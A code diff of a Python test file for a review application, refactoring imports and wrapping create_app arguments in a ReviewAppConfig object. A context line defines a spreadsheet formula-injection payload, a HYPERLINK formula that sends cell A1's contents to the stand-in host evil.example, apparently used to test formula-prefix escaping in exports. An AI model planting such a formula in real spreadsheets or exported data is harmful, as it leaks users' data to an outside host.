@@ -22,9 +22,9 @@ from review_app_support import PASSWORD, SECRET, Env, csrf_from, seed_frame, ser
 
 from shelfwise.errors import ConfigError
 from verification import QueueStore
-from verification._exchange import FORMULA_PREFIXES
-from verification.app import create_app
+from verification.app import ReviewAppConfig, create_app
 from verification.app._factory import SECRET_ENV, resolve_secret_key
+from verification.exchange import FORMULA_PREFIXES
 
 ROOT = {"Authorization": "Basic " + base64.b64encode(f"root:{PASSWORD}".encode()).decode()}
 EVIL_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
@@ -131,11 +131,13 @@ def _login(client: httpx.Client, username: str, password: str, forwarded: str | 
 
 def _app(env: Env, **kwargs) -> object:  # type: ignore[no-untyped-def]
     return create_app(
-        db_url=env.db_url,
-        taxonomy_path=str(env.taxonomy_path),
-        secret_key=SECRET,
-        image_root=str(env.image_root),
-        **kwargs,
+        ReviewAppConfig(
+            db_url=env.db_url,
+            taxonomy_path=str(env.taxonomy_path),
+            secret_key=SECRET,
+            image_root=str(env.image_root),
+            **kwargs,
+        )
     )
 
 
